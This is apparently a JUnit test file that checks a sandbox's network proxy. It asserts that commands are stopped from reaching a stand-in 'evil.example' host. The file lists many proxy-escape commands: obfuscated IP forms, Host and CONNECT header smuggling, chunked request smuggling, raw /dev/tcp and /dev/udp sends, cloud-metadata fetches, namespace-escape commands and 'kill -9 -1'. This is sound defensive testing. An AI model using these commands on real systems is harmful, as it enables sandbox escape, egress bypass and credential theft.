package os.atom.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import os.atom.identity.TestJournal;
import os.atom.network.Network;
import os.atom.network.Outlet;
import os.atom.network.Upstream;

/**
 * Threat: a command that may reach one host reaches another one.
 *
 * <p>The other one is really there, at the same address and excepted from the address rule alike:
 * nothing but the allow-list and the walls stand between.
 */
@Timeout(180)
class ProxyEscapeTest {
    @TempDir Path temporary;
    private Upstream good;
    private Upstream evil;
    private Network network;
    private Outlet outlet;
    private Box box;

    @BeforeEach
    void open() throws Exception {
        evil = new Upstream("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nescaped");
        good =
                new Upstream(
                        "HTTP/1.1 302 Found\r\nLocation: http://evil.example:%d/\r\nConnection: close\r\n\r\n"
                                .formatted(evil.port()));
        network =
                Network.open(temporary, TestJournal.open(temporary.resolve("j.db"), Map.of()))
                        .own(good)
                        .own(evil)
                        .name("good.example", "127.0.0.1")
                        .name("evil.example", "127.0.0.1")
                        .name("169.254.169.254.nip.example", "169.254.169.254")
                        .allow(
                                "allow: [{domains: [good.example, '*.nip.example'], ports: [%d, 80]}]"
                                        .formatted(good.port()));
        outlet = network.gateway().open("c1", Network.SCOUT);
        box = new Box(temporary);
    }

    @AfterEach
    void close() throws Exception {
        outlet.close();
        network.close();
        good.close();
        evil.close();
    }

    /** So that what follows fails for the right reason. */
    @Test
    void theOneHostIsReached() throws Exception {
        assertThat(run("curl -sS -o /dev/null -w '%{http_code}' http://good.example:GOOD/").out())
                .isEqualTo("302");
        assertThat(good.call().whole()).startsWith("GET / HTTP/1.1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // asking for it
                "curl -sS http://evil.example:EVIL/",
                "curl -sS http://127.0.0.1:EVIL/",
                "curl -sS 'http://[::ffff:127.0.0.1]:EVIL/'",
                "curl -sS --path-as-is http://good.example:EVIL/",
                "curl -sS -p http://evil.example:EVIL/",
                "git ls-remote http://evil.example:EVIL/x.git",
                // redirects
                "curl -sS -L http://good.example:GOOD/",
                "git ls-remote http://good.example:GOOD/x.git",
                // without the proxy
                "NO_PROXY='*' no_proxy='*' curl -sS http://127.0.0.1:EVIL/",
                "curl -sS --noproxy '*' http://127.0.0.1:EVIL/",
                "curl -sS --noproxy '*' --resolve evil.example:EVIL:127.0.0.1 http://evil.example:EVIL/",
                "env -i /usr/bin/curl -sS http://127.0.0.1:EVIL/",
                "exec 3<>/dev/tcp/127.0.0.1/EVIL && echo x >&3",
                "exec 3<>/dev/tcp/::1/EVIL && echo x >&3",
                "curl -sS -x socks5h://127.0.0.1:3128 http://evil.example:EVIL/",
                "curl -sS -x socks4a://127.0.0.1:3128 http://evil.example:EVIL/",
                // tricks with the request
                "curl -sS -H 'Host: evil.example:EVIL' http://good.example:GOOD/",
                "curl -sS --connect-to good.example:GOOD:evil.example:EVIL http://good.example:GOOD/",
                "curl -sS --request-target http://evil.example:EVIL/ http://good.example:GOOD/",
                "curl -sS http://good.example:GOOD@127.0.0.1:EVIL/",
                "curl -sS 'http://evil.example:EVIL#@good.example:GOOD/'",
                "curl -sS http://2130706433:EVIL/",
                "curl -sS http://0x7f000001:EVIL/",
                "curl -sS http://0177.0.0.1:EVIL/",
                "curl -sS http://127.1:EVIL/",
                "curl -sS http://evil.example.:EVIL/",
                "curl -sS -p -k --resolve good.example:GOOD:127.0.0.1 https://good.example:EVIL/",
                "say 'GET http://good.example:GOOD/ HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                "say 'GET http://evil.example:EVIL/ HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\n\\r\\n'",
                "say 'GET /\\r\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                "say 'GET http://good.example:GOOD/ HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\n\\r\\nGET http://evil.example:EVIL/ HTTP/1.1\\r\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                "say 'POST http://good.example:GOOD/ HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\nContent-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nCONNECT evil.example:EVIL HTTP/1.1\\r\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                // tricks with CONNECT
                "say 'CONNECT evil.example:EVIL HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\n\\r\\nGET / HTTP/1.1\\r\\n\\r\\n'",
                "say 'CONNECT good.example:EVIL HTTP/1.1\\r\\nHost: good.example:EVIL\\r\\n\\r\\n'",
                "say 'CONNECT 127.0.0.1:EVIL HTTP/1.1\\r\\nHost: 127.0.0.1:EVIL\\r\\n\\r\\n'",
                "say 'CONNECT good.example:GOOD@evil.example:EVIL HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'",
                "say 'CONNECT good.example:GOOD HTTP/1.1\\r\\nHost: good.example:GOOD\\r\\n\\r\\nCONNECT evil.example:EVIL HTTP/1.1\\r\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                "say 'CONNECT good.example:GOOD HTTP/1.1\\nHost: evil.example:EVIL\\r\\n\\r\\n'",
                // the cloud's metadata
                "curl -sS http://169.254.169.254/latest/meta-data/",
                "curl -sS http://169.254.169.254.nip.example/latest/meta-data/",
                "curl -sS --noproxy '*' --connect-timeout 2 http://169.254.169.254/",
            })
    void theOtherHostIsNot(String attack) throws Exception {
        Box.Result result = run(attack);

        assertThat(result.out() + result.err()).doesNotContain("escaped");
        assertThat(evil.isLeftAlone()).as(result.out() + result.err()).isTrue();
        assertThat(network.asked()).doesNotContain("evil.example");
    }

    @Test
    void namesAreNotAskedForByTheCommand() throws Exception {
        try (DatagramSocket names =
                new DatagramSocket(new InetSocketAddress(InetAddress.ofLiteral("127.0.0.1"), 0))) {
            Box.Result result =
                    run(
                            "exec 3<>/dev/udp/127.0.0.1/PORT && echo secret >&3; getent hosts evil.example; getent ahosts secret.good.example"
                                    .replace("PORT", Integer.toString(names.getLocalPort())));

            assertThat(result.out()).isEmpty();
            names.setSoTimeout(1);
            assertThat(
                            org.assertj.core.api.Assertions.catchThrowable(() ->
                                    names.receive(new java.net.DatagramPacket(new byte[9], 9))))
                    .isInstanceOf(SocketTimeoutException.class);
        }
    }

    @Test
    void socketsOfOtherKindsAreNotToBeHad() throws Exception {
        String script =
                """
                use Socket;
                for my $family (1, 16, 17, 38, 40, 44) {
                    print "$family: ", (socket(my $s, $family, SOCK_DGRAM, 0) ? "open" : 0+$!), "\\n";
                }
                for my $family (2, 10) {
                    print "raw: ", (socket(my $r, $family, SOCK_RAW, 1) ? "open" : 0+$!), "\\n";
                    socket(my $s, $family, SOCK_STREAM, 0) or die;
                    print "mark: ", (setsockopt($s, 1, 36, pack("i", 1)) ? "set" : 0+$!), "\\n";
                }
                """;
        assertThat(box.run(outlet.socket(), box.perl(script)).out())
                .isEqualTo(
                        "1: 1\n16: 1\n17: 1\n38: 1\n40: 1\n44: 1\n"
                                + "raw: 1\nmark: 1\nraw: 1\nmark: 1\n");
    }

    @Test
    void thereIsNoOtherNetworkToGoTo() throws Exception {
        Box.Result result =
                run(
                        "nsenter -t 1 -n true; nsenter --net=/proc/1/ns/net true; unshare -Urn true;"
                                + " ip link add x type dummy; tail -n +2 /proc/net/route; cat /proc/net/if_inet6 | grep -v ' lo$'; ls /outlet /relay");

        assertThat(result.out()).isEmpty();
    }

    @Test
    void theRelayIsNotToBeSeenOrTouched() throws Exception {
        Box.Result result = run("cat /proc/[0-9]*/cmdline | tr '\\0' ' '; kill -9 -1; echo left");

        assertThat(result.out()).doesNotContain("relay", outlet.socket().toString());
        assertThat(run("curl -sS -o /dev/null -w '%{http_code}' http://good.example:GOOD/").out())
                .isEqualTo("302");
    }

    private Box.Result run(String script) throws InterruptedException {
        String say =
                "say() { exec 3<>/dev/tcp/127.0.0.1/3128; printf \"$1\" >&3; timeout 5 cat <&3; };\n";
        String text =
                (say + script)
                        .replace("GOOD", Integer.toString(good.port()))
                        .replace("EVIL", Integer.toString(evil.port()));
        return box.run(outlet.socket(), box.bash(text));
    }
}
